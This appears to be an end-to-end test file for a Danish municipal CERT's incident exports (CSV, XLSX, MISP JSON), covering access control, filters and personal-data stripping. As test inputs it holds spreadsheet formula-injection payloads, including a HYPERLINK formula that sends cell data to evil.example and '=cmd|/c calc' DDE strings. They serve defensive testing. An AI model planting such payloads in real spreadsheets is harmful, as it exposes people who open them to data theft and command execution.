import Ajv from 'ajv';
import request from 'supertest';
import {
  as,
  apiKeyCaller,
  Caller,
  hoursAgo,
  reportBody,
  resetIncidents,
  userCaller,
} from './support/incidents';
import { binary, expectInertText, expectNoLiveFormula, parseCsv, readWorkbook } from './support/spreadsheets';
import { createTestApp, resetData, TestApp } from './support/test-app';
import { createUser } from './support/factories';
import { pageGetter } from './support/web-session';

const OWN = 151; // Ballerup, Region Hovedstaden
const FOREIGN = 101; // København

/** Texts a spreadsheet would run as formulas, typed by a municipality or an analyst. */
const HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")';
const HOSTILE_TEXTS = ['+1+cmd|calc', '-2+3', '@SUM(1,2)', '=1+1'];

const HEADER = [
  'Reference',
  'Kommunekode',
  'Kommune',
  'Titel',
  'Status',
  'RSIT-klasse',
  'RSIT-type',
  'RSIT-mærke',
  'Alvor',
  'TLP',
  'Tildelt',
  'Kendt siden',
  'Anmeldt',
  'Næste frist',
  'Frist overskredet',
];

/**
 * The MISP core event format, as far as the export uses it (MISP `Event` JSON: string ids and
 * levels, `Tag` with machine-tag names, `Attribute` with type, category and value). Strict: no
 * property MISP does not know, and none that could carry a person.
 */
const MISP_EVENT_SCHEMA = {
  type: 'object',
  required: ['Event'],
  additionalProperties: false,
  properties: {
    Event: {
      type: 'object',
      required: ['info', 'date', 'threat_level_id', 'analysis', 'distribution', 'Tag', 'Attribute'],
      additionalProperties: false,
      properties: {
        uuid: { type: 'string', pattern: '^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$' },
        info: { type: 'string', minLength: 1 },
        date: { type: 'string', pattern: '^\\d{4}-\\d{2}-\\d{2}$' },
        timestamp: { type: 'string', pattern: '^\\d+$' },
        threat_level_id: { enum: ['1', '2', '3', '4'] },
        analysis: { enum: ['0', '1', '2'] },
        distribution: { enum: ['0', '1', '2', '3', '4'] },
        published: { type: 'boolean' },
        Orgc: {
          type: 'object',
          required: ['name'],
          additionalProperties: false,
          properties: { name: { type: 'string' } },
        },
        Tag: {
          type: 'array',
          minItems: 1,
          items: {
            type: 'object',
            required: ['name'],
            additionalProperties: false,
            properties: { name: { type: 'string', pattern: '^[a-z0-9-]+:[a-z0-9+-]+(="[a-z0-9-]+")?$' } },
          },
        },
        Attribute: {
          type: 'array',
          items: {
            type: 'object',
            required: ['type', 'category', 'value'],
            additionalProperties: false,
            properties: {
              type: { enum: ['text', 'datetime', 'comment', 'link', 'vulnerability', 'ip-dst', 'domain'] },
              category: { enum: ['Other', 'Internal reference', 'External analysis', 'Network activity'] },
              value: { type: 'string', minLength: 1 },
              comment: { type: 'string' },
              to_ids: { type: 'boolean' },
              distribution: { enum: ['0', '1', '2', '3', '4', '5'] },
            },
          },
        },
      },
    },
  },
};

/** KommuneCERT's exports: the filtered list as CSV and XLSX, one incident as a MISP event. */
describe('Incident exports (e2e)', () => {
  let t: TestApp;
  let cert: Caller & { id: string };
  let officer: Caller & { id: string };
  let foreignOfficer: Caller & { id: string };
  let others: Caller[];
  let hostile: { id: string; reference: string };
  let foreign: { id: string; reference: string };
  let red: { id: string };

  beforeAll(async () => {
    t = await createTestApp();
    await resetData(t.db);
    await resetIncidents(t);
    cert = await userCaller(t, 'cert_analyst');
    officer = await userCaller(t, 'municipality_officer', OWN);
    foreignOfficer = await userCaller(t, 'municipality_officer', FOREIGN);
    others = [
      officer,
      foreignOfficer,
      await userCaller(t, 'kl_analyst'),
      await userCaller(t, 'platform_admin'),
      await apiKeyCaller(t, OWN),
    ];
    const report = async (caller: Caller, body: Record<string, unknown>) =>
      (await as(request(t.http).post('/api/v1/incidents'), caller).send(body).expect(201)).body;
    // Ballerup's officer types a hostile title, a description with a person in it, and systems.
    hostile = await report(
      officer,
      reportBody({
        title: HOSTILE_TITLE,
        description: 'Jens Jensen (jens@ballerup.dk, cpr 010101-1234) klikkede på linket.',
        severity: 'high',
        reporterReference: 'SAG-2026-4711',
        affectedSystems: ['=cmd|/c calc', 'Jens Jensens pc'],
        awareAt: hoursAgo(30),
      }),
    );
    for (const [i, text] of HOSTILE_TEXTS.entries()) {
      await report(
        foreignOfficer,
        reportBody({
          title: text,
          rsitClass: 'availability',
          rsitType: 'dos',
          severity: 'low',
          personalDataBreach: undefined,
          awareAt: hoursAgo(5 + i),
        }),
      );
    }
    foreign = await report(
      cert,
      reportBody({
        municipalityCode: FOREIGN,
        title: 'Ransomware på filserver',
        rsitClass: 'malicious-code',
        rsitType: 'infected-system',
        severity: 'critical',
        tlp: 'clear',
        personalDataBreach: undefined,
        awareAt: hoursAgo(1),
      }),
    );
    red = await report(cert, reportBody({ municipalityCode: FOREIGN, title: 'Hemmelig', tlp: 'red' }));
  });
  afterAll(() => t.close());

  const get = (path: string, caller: Caller) => as(request(t.http).get(`/api/v1/incidents${path}`), caller);
  const csvOf = async (query: string) => {
    const res = await get(`/export.csv${query}`, cert).expect(200);
    return { res, records: parseCsv(res.text) };
  };

  describe('access', () => {
    it('is KommuneCERT’s alone: every other role and an API key get 403, without a sign-in 401', async () => {
      for (const path of ['/export.csv', '/export.xlsx', `/${hostile.id}/misp.json`]) {
        for (const caller of others) {
          const res = await get(path, caller);
          expect({ who: caller.name, path, status: res.status }).toEqual({
            who: caller.name,
            path,
            status: 403,
          });
        }
        await request(t.http).get(`/api/v1/incidents${path}`).expect(401);
      }
    });

    it('records each export in the audit log', async () => {
      await get('/export.csv?severity=high', cert).expect(200);
      await get(`/${foreign.id}/misp.json`, cert).expect(200);
      const rows: Array<{ action: string }> = await t.db.query(
        `SELECT action FROM audit_log WHERE actor_id = $1 AND action IN ('incident.list-exported', 'incident.misp-exported')`,
        [cert.id],
      );
      expect(rows.map((r) => r.action).sort()).toEqual(['incident.list-exported', 'incident.misp-exported']);
    });
  });

  describe('the list as CSV and XLSX', () => {
    it('is a CSV for a Danish Excel: BOM, `;`, Danish headers, every incident, texts neutralised', async () => {
      const { res, records } = await csvOf('');
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(
        /attachment; filename="kommunecert-haendelser-\d{4}-\d{2}-\d{2}\.csv"/,
      );
      expect(res.text.startsWith(`\uFEFF${HEADER.join(';')}\r\n`)).toBe(true);
      const [header, ...rows] = records;
      expect(header).toEqual(HEADER);
      expect(rows).toHaveLength(7);
      const row = rows.find((r) => r[0] === hostile.reference)!;
      expect(row.slice(1, 9)).toEqual([
        String(OWN),
        'Ballerup',
        `'${HOSTILE_TITLE}`,
        'Ny',
        'Svindel',
        'Phishing',
        'rsit:fraud="phishing"',
        'Høj',
      ]);
      expect(row[11]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
      for (const text of HOSTILE_TEXTS) expect(rows.map((r) => r[3])).toContain(`'${text}`);
      expectNoLiveFormula(res.text);
    });

    it('is an XLSX with typed cells: dates as dates, a bold frozen header, hostile titles as inert text', async () => {
      const res = await get('/export.xlsx', cert).buffer(true).parse(binary).expect(200);
      expect(res.headers['content-type']).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      const sheet = (await readWorkbook(res.body as Buffer)).getWorksheet('Hændelser')!;
      expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(HEADER);
      expect(sheet.getRow(1).font?.bold).toBe(true);
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.rowCount).toBe(8);
      const rows = Array.from({ length: 7 }, (_, i) => sheet.getRow(i + 2));
      const row = rows.find((r) => r.getCell(1).value === hostile.reference)!;
      expectInertText(row.getCell(4), HOSTILE_TITLE);
      expect(row.getCell(2).value).toBe(OWN);
      expect(row.getCell(12).value).toBeInstanceOf(Date);
      expect(row.getCell(12).numFmt).toBe('dd-mm-yyyy hh:mm');
      for (const text of HOSTILE_TEXTS) {
        const cell = rows.map((r) => r.getCell(4)).find((c) => c.value === text)!;
        expectInertText(cell, text);
      }
    });

    it('takes the list’s filters: severity, municipality, class, status, text, time and deadlines', async () => {
      const references = async (query: string) => (await csvOf(query)).records.slice(1).map((r) => r[0]);
      expect(await references('?severity=high')).toEqual([hostile.reference]);
      expect(await references(`?municipality=${OWN}`)).toEqual([hostile.reference]);
      expect((await references(`?municipality=${FOREIGN}`)).length).toBe(6);
      expect(await references('?rsitClass=malicious-code')).toEqual([foreign.reference]);
      expect((await references('?rsitClass=availability&status=new,triage')).length).toBe(4);
      expect(await references('?status=closed')).toEqual([]);
      expect(await references('?q=Ransomware')).toEqual([foreign.reference]);
      expect(await references(`?from=${encodeURIComponent(hoursAgo(2))}&severity=critical`)).toEqual([
        foreign.reference,
      ]);
      expect(await references(`?to=${encodeURIComponent(hoursAgo(29))}`)).toEqual([hostile.reference]);
      expect(await references('?assignee=none&severity=high')).toEqual([hostile.reference]);
      // The list and its export agree.
      const list = await get('/?severity=low&limit=100', cert).expect(200);
      expect((await references('?severity=low')).sort()).toEqual(
        list.body.items.map((i: { reference: string }) => i.reference).sort(),
      );
    });

    it('refuses bad filters and a page with 400 naming the field', async () => {
      const cases: Array<[string, string]> = [
        ['?severity=extreme', 'severity'],
        ['?status=new,open', 'status'],
        ['?municipality=99', 'municipality'],
        ['?from=yesterday', 'from'],
        ['?dueWithinHours=0', 'dueWithinHours'],
        ['?limit=10', 'limit'],
        ['?offset=25', 'offset'],
      ];
      for (const format of ['csv', 'xlsx']) {
        for (const [query, field] of cases) {
          const res = await get(`/export.${format}${query}`, cert).expect(400);
          expect(JSON.stringify(res.body)).toContain(field);
        }
      }
    });
  });

  describe('one incident as a MISP event', () => {
    const validate = new Ajv({ allErrors: true, strict: true }).compile(MISP_EVENT_SCHEMA);

    it('is a MISP event with rsit: and tlp: tags, severity as threat level and the region, not the municipality', async () => {
      const res = await get(`/${hostile.id}/misp.json`, cert).expect(200);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(validate(res.body)).toBe(true);
      expect(validate.errors ?? []).toEqual([]);
      const event = res.body.Event;
      expect(event.Tag).toEqual([{ name: 'rsit:fraud="phishing"' }, { name: 'tlp:amber' }]);
      expect(event).toMatchObject({
        threat_level_id: '1',
        analysis: '0',
        distribution: '1',
        uuid: hostile.id,
      });
      expect(event.info).toBe(
        `${hostile.reference}: rsit:fraud="phishing" in a Danish municipality (Region Hovedstaden)`,
      );
      expect(event.Attribute).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ category: 'Internal reference', value: hostile.reference }),
          expect.objectContaining({ value: 'Region Hovedstaden' }),
          expect.objectContaining({ type: 'datetime', comment: expect.stringMatching(/aware/) }),
          expect.objectContaining({ value: 'utilsigtet-videregivelse' }),
        ]),
      );
      const clear = (await get(`/${foreign.id}/misp.json`, cert).expect(200)).body;
      expect(validate(clear)).toBe(true);
      expect(clear.Event.Tag).toEqual([
        { name: 'rsit:malicious-code="infected-system"' },
        { name: 'tlp:clear' },
      ]);
      expect(clear.Event).toMatchObject({ threat_level_id: '1', distribution: '3' });
    });

    it('holds no personal data: no reporter, no free text, no municipality, no breach counts', async () => {
      const res = await get(`/${hostile.id}/misp.json`, cert).expect(200);
      const json = JSON.stringify(res.body);
      const [reporter] = await t.db.query('SELECT email, display_name FROM users WHERE id = $1', [
        officer.id,
      ]);
      for (const forbidden of [
        'Jens',
        'jens@ballerup.dk',
        '010101',
        HOSTILE_TITLE,
        'SAG-2026-4711',
        'calc',
        'Ballerup',
        reporter.email,
        reporter.display_name,
      ])
        expect(json).not.toContain(forbidden);
      const keys = JSON.stringify(Object.keys(res.body.Event)) + JSON.stringify(res.body.Event.Attribute);
      for (const field of ['reporter', 'email', 'description', 'title', 'assignee', 'approxSubjects'])
        expect(keys.toLowerCase()).not.toContain(field.toLowerCase());
      // Forty data subjects were reported: the count stays home.
      expect(res.body.Event.Attribute.map((a: { value: string }) => a.value)).not.toContain('40');
    });

    it('refuses a TLP:RED incident with 422 naming tlp; an unknown id is 404, a bad one 400', async () => {
      const res = await get(`/${red.id}/misp.json`, cert).expect(422);
      expect(res.body.details).toEqual([expect.objectContaining({ field: 'tlp' })]);
      await get('/00000000-0000-4000-8000-000000000000/misp.json', cert).expect(404);
      await get('/not-an-id/misp.json', cert).expect(400);
    });
  });

  describe('on the work queue page', () => {
    const web = async (role: 'cert_analyst' | 'municipality_officer', code: number | null = null) =>
      pageGetter(t.http, await createUser(t.db, role, code));

    it('links KommuneCERT to the filtered queue as CSV and XLSX, and the links download that selection', async () => {
      const page = await web('cert_analyst');
      const queue = await page(`/haendelser?alvor=high&kommune=${OWN}&side=1`).expect(200);
      expect(queue.text).toContain(`href="/haendelser/eksport.csv?kommune=${OWN}&amp;alvor=high"`);
      expect(queue.text).toContain(`href="/haendelser/eksport.xlsx?kommune=${OWN}&amp;alvor=high"`);
      const csv = await page(`/haendelser/eksport.csv?kommune=${OWN}&alvor=high`).expect(200);
      expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(
        parseCsv(csv.text)
          .slice(1)
          .map((r) => r[0]),
      ).toEqual([hostile.reference]);
      const xlsx = await page('/haendelser/eksport.xlsx?alvor=low').buffer(true).parse(binary).expect(200);
      expect((await readWorkbook(xlsx.body as Buffer)).getWorksheet('Hændelser')!.rowCount).toBe(1 + 4);
    });

    it('gives an officer neither the links nor the downloads', async () => {
      const page = await web('municipality_officer', OWN);
      const own = await page('/haendelser').expect(200);
      expect(own.text).not.toContain('eksport.');
      const refused = await page('/haendelser/eksport.csv');
      expect(refused.status).toBe(403);
      expect(refused.headers['content-type']).not.toMatch(/csv/);
    });
  });

  // Last: it fills the log past the cap, then empties the log.
  it('refuses more than 50,000 incidents with 422 and the total, rather than cutting the export short', async () => {
    await t.owner.query(
      `INSERT INTO incidents (reference, municipality_code, source, reporter_label, title, description, status,
         rsit_class, rsit_type, severity, aware_at)
       SELECT 'KCERT-2000-' || lpad(g::text, 6, '0'), $1, 'web', 'bench', 'Bulk ' || g, '', 'closed',
         'fraud', 'phishing', 'low', now() - interval '400 days'
       FROM generate_series(1, 50000) g`,
      [FOREIGN],
    );
    try {
      const res = await get('/export.xlsx', cert).expect(422);
      expect(res.body.details).toEqual({ total: 50_007, max: 50_000 });
      expect(res.body.message).toMatch(/narrow them/);
      // Narrowed by the filters, the same log exports.
      const { records } = await csvOf('?severity=high');
      expect(records).toHaveLength(2);
    } finally {
      await resetIncidents(t);
    }
  }, 120_000);
});
